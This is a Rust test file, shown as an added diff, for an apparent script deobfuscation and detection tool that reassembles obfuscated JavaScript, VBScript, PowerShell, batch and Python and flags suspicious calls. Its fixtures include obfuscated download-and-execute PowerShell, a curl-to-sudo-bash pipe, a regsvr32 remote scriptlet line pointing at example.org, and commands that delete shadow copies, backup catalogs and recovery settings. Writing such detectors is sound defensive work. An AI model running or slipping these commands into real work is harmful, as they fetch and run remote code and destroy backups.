@@ -1,0 +1,227 @@
+use crate::Kind;
+use crate::kit::{facts, oddities, reading, told, tree};
+use crate::{Limits, Part, take_apart};
+use expect_test::{Expect, expect};
+
+/// Reads a script of a kind: what is told of its calls, what is odd, and what the parts hold.
+#[track_caller]
+fn check(kind: Kind, source: &str, expected: Expect) {
+    let read = reading(kind, source.as_bytes());
+    let interesting = ["calls", "hidden_calls", "shebang", "urls", "encoded", "blobs"];
+    let vectors: Vec<_> = read.vectors.iter().filter(|vector| interesting.contains(&vector.name)).cloned().collect();
+    let mut text = facts(&vectors) + &oddities(&read);
+    for child in &read.children {
+        text += &format!("{}: {}\n", child.name, String::from_utf8_lossy(child.bytes(source.as_bytes()).unwrap()));
+    }
+    expected.assert_eq(&text);
+}
+
+fn named(name: &str, bytes: &[u8]) -> Part {
+    take_apart(name, bytes, &Limits::default(), &[], &|| false)
+}
+
+fn wide_base64(text: &str) -> String {
+    base64(&text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())
+}
+
+fn base64(bytes: &[u8]) -> String {
+    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut text = String::new();
+    for group in bytes.chunks(3) {
+        let word = group.iter().fold(0_u32, |word, byte| word << 8 | u32::from(*byte)) << (8 * (3 - group.len()));
+        for place in 0..4 {
+            let letter = LETTERS[(word >> (18 - 6 * place) & 63) as usize] as char;
+            text.push(if place <= group.len() { letter } else { '=' });
+        }
+    }
+    text
+}
+
+#[test]
+fn letters_by_their_number_and_texts_in_pieces_are_put_together() {
+    check(
+        Kind::JavaScript,
+        r#"var a = "WScr" + 'ipt.Sh' + "\x65ll"; var b = new ActiveXObject(a); eval(String.fromCharCode(104, 0x74, 116+0, 112) + unescape("%3a%2F%2fexample.org")); // it's 'a' + 'b'"#,
+        expect![[r#"
+            script.hidden_calls = ["wscript.shell", "shell"]
+            script.calls = ["activexobject", "string.fromcharcode", "unescape(", "eval", "fromcharcode"]
+            script.hidden-calls calls=List(["wscript.shell", "shell"])
+            put-together.js: var a = "WScript.Shell"; var b = new ActiveXObject(a); eval("http://example.org"); // it's 'a' + 'b'
+        "#]],
+    );
+    check(
+        Kind::VbScript,
+        "Set s = Create\" 'no\nx = Chr(65) & ChrW(&H44) & \"ODB.\" & _\r\n  StrReverse(\"maertS\")\nCreateObject(x) ' a \"+\" b\nMsgBox \"a \"\"b\"\"\" & \"c\"",
+        expect![[r#"
+            script.hidden_calls = ["adodb.stream"]
+            script.calls = ["createobject(", "chr", "chrw", "strreverse"]
+            script.hidden-calls calls=List(["adodb.stream"])
+            put-together.vbs: Set s = Create" 'no
+            x = "ADODB.Stream"
+            CreateObject(x) ' a "+" b
+            MsgBox "a ""b""c"
+        "#]],
+    );
+    check(
+        Kind::PowerShell,
+        "&('I'+'EX') (New-Obj`ect Ne`t.WebClient).(\"{1}{0}{2}\" -f 'nload','Dow','String')('http://example.org/a'); $x = [char]0x41 + [char](66) + 'aXb'.Replace('X','-') ; ('a','b','c') -join ''",
+        expect![[r#"
+            script.urls = ["http://example.org/a"]
+            script.hidden_calls = ["downloadstring", "net.webclient", "new-object", "iex"]
+            script.hidden-calls calls=List(["downloadstring", "net.webclient", "new-object", "iex"])
+            put-together.ps1: &"IEX" (New-Object Net.WebClient)."DownloadString"('http://example.org/a'); $x = "ABa-b" ; "abc"
+        "#]],
+    );
+}
+
+#[test]
+fn variables_and_carets_of_batch_files_are_undone() {
+    check(
+        Kind::Batch,
+        "@echo off\nset a=power\nset \"b=shell\"\nset abc=xcertutilx\n%a%%b% -nop\n%abc:~1,-1% -dec^ode a b\nv^s^sadmin de^lete sha^dows /all\necho %PATH% 100%% ^& done\n",
+        expect![[r#"
+            script.hidden_calls = ["powershell", "-decode ", "delete shadows", "vssadmin"]
+            script.calls = ["certutil", "shell"]
+            script.hidden-calls calls=List(["powershell", "-decode ", "delete shadows", "vssadmin"])
+            put-together.bat: @echo off
+            set a=power
+            set "b=shell"
+            set abc=xcertutilx
+            powershell -nop
+            certutil -decode a b
+            vssadmin delete shadows /all
+            echo %PATH% 100%% ^& done
+
+        "#]],
+    );
+}
+
+#[test]
+fn texts_in_another_alphabet_are_parts() {
+    let command = wide_base64("Write-Output 'harmless'; Get-Date");
+    check(
+        Kind::Batch,
+        &format!("powershell -NoP -e {command}\n"),
+        expect![[r#"
+        script.calls = ["-nop ", "powershell", "encoded-command"]
+        script.blobs = 1
+        blob-1.ps1: Write-Output 'harmless'; Get-Date
+    "#]],
+    );
+    check(
+        Kind::Python,
+        &format!("#!/usr/bin/env python3\nexec(base64.b64decode('{}'))\n", base64(b"print('a harmless text')\n")),
+        expect![[r#"
+            script.shebang = "/usr/bin/env python3"
+            script.calls = ["base64.b64decode", "exec"]
+            script.blobs = 1
+            blob-1.py: print('a harmless text')
+
+        "#]],
+    );
+    let digits: String =
+        b"a text that is written in hexadecimal digits".iter().map(|byte| format!("{byte:02x}")).collect();
+    check(
+        Kind::Python,
+        &format!("x = bytes.fromhex('{digits}')"),
+        expect![[r#"
+        script.blobs = 1
+        blob-1.py: a text that is written in hexadecimal digits
+    "#]],
+    );
+    let numbers: Vec<String> =
+        crate::kit::zip(&[crate::kit::stored("a.txt", b"hello")]).iter().map(u8::to_string).collect();
+    let part = named("x.ps1", format!("[Byte[]] $x = {}\n$y = 1,2,3\n", numbers.join(",")).as_bytes());
+    expect![[r#"
+        x.ps1 | txt 304
+          blob-1.ps1 | zip 113 | numbers
+            a.txt | txt 5
+    "#]]
+    .assert_eq(&tree(&part));
+}
+
+#[test]
+fn encoded_sections_are_decoded() {
+    let coded = super::encoded::encode("MsgBox \"Hello @ <World>\"\r\n");
+    assert!(coded.contains("\\ko$K6,"), "{coded}");
+    check(
+        Kind::EncodedScript,
+        &coded,
+        expect![[r#"
+            script.encoded = 1
+            decoded-1.vbs: MsgBox "Hello @ <World>"
+
+        "#]],
+    );
+    check(
+        Kind::EncodedScript,
+        "#@~^AAAAAA==\\ko$K6P",
+        expect![[r#"
+        script.encoded = 1
+        script.encoded-damaged @0
+        decoded-1.vbs: MsgBox{
+    "#]],
+    );
+}
+
+#[test]
+fn what_takes_backups_away_or_pipes_to_a_shell_is_named() {
+    check(
+        Kind::Shell,
+        "#!/bin/sh\ncurl -fsSL http://example.org/i | sudo bash\necho system is up\n",
+        expect![[r#"
+        script.shebang = "/bin/sh"
+        script.urls = ["http://example.org/i"]
+        script.calls = ["curl ", "fetched-and-piped-to-shell"]
+    "#]],
+    );
+    check(
+        Kind::Batch,
+        "vssadmin  Delete   Shadows /all /quiet\nbcdedit /set {default} recoveryenabled No\nwbadmin delete catalog -quiet\nregsvr32 /s /u /i:http://example.org/a.sct scrobj.dll\n",
+        expect![[r#"
+            script.urls = ["http://example.org/a.sct"]
+            script.calls = ["regsvr32", "/i:http", "delete shadows", "vssadmin", "wbadmin delete", "delete catalog", "bcdedit", "recoveryenabled no"]
+        "#]],
+    );
+    check(Kind::JavaScript, "function evaluate(run) { return medieval(run); } // eval is evil\n", expect![[r#""#]]);
+}
+
+#[test]
+fn plain_text_is_read_as_what_its_name_says() {
+    let part = named("a.vbs", b"x = 1\n");
+    expect![[r#"
+        script.language = "vbscript"
+        script.lines = 1
+        script.longest_line = 5
+        script.entropy = 2.252
+        script.put_together = 0
+    "#]]
+    .assert_eq(&told(&part, "script"));
+    assert_eq!(told(&named("a.txt", b"x = 1\n"), "script"), "");
+}
+
+#[test]
+fn scripts_that_would_grow_or_never_end_end() {
+    let doubling = "set a=xxxxxxxxxxxxxxxx\n".to_owned() + &"set a=%a%%a%\n".repeat(3000);
+    let part = named("x.bat", doubling.as_bytes());
+    assert!(part.file.is_some());
+    for piece in [
+        "\"a\"+",
+        "(\"a\"+",
+        "String.fromCharCode(",
+        "\"{0}\" -f ",
+        "'a'.replace('a','aaaaaaaa')",
+        "`",
+        "#@~^",
+        "/*",
+        "chr(1+",
+        "-join('a',",
+        "('a',",
+    ] {
+        let start = std::time::Instant::now();
+        for name in ["x.js", "x.vbs", "x.ps1", "x.bat", "x.py"] {
+            named(name, piece.repeat(20_000).as_bytes());
+        }
+        assert!(start.elapsed().as_secs() < 20, "{piece}: {:?}", start.elapsed());
+    }
+}
